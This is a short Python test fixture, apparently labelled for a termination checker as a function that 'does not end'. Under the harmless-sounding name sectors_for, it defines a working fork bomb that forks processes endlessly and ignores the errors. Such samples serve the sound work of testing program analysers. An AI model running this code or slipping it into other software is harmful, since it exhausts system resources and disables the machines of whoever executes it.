# expect: sectors_for: does not end
# Starts as many processes as it may, each of which computes and starts more.


def sectors_for(stride, offset, itemsize):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
